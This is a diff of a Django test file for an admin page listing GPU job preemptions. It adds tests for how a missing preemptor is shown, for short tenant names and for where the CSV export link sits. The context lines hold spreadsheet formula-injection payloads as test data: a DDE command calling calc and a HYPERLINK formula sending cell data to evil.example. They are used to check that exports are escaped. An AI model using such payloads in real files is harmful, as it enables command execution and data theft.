@@ -170,3 +170,32 @@ def test_csv_export_cells_never_start_a_formula(staff_client, nlp_queue):
     assert event["node"] == "'+cmd|' /C calc'!A0"
     assert event["sentence"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert event["gpus_freed"].isdigit()
+
+
+def test_history_names_a_missing_preemptor_and_uses_short_tenant_names(
+    staff_client, nlp_queue, nlp
+):
+    nlp.display_name = "Natural language processing"
+    nlp.save()
+    PreemptionEventFactory(
+        victim_job=JobFactory(queue=nlp_queue, name="moved-job"),
+        action="rescheduling",
+        preemptor_job=None,
+        preemptor_queue=None,
+    )
+    response = staff_client.get(URL)
+    body = response.content.decode()
+    assert "rescheduling (no preemptor)" in body
+    assert ">none<" not in body
+    options = response.context["form"]["tenant"]
+    assert [choice.choice_label for choice in options][1:] == ["nlp"]
+    assert "Natural language processing" not in body
+
+
+def test_csv_export_sits_with_the_table_and_keeps_the_filters(staff_client, nlp_queue):
+    PreemptionEventFactory(victim_job=JobFactory(queue=nlp_queue), action="reclaim")
+    body = staff_client.get(URL, {"action": "reclaim"}).content.decode()
+    toolbar = body.index('id="preemption-count"')
+    assert toolbar < body.index('id="csv-export"') < body.index('id="preemptions"')
+    assert "1 eviction matching the filters" in body
+    assert 'href="/admin-area/preemptions.csv?action=reclaim"' in body
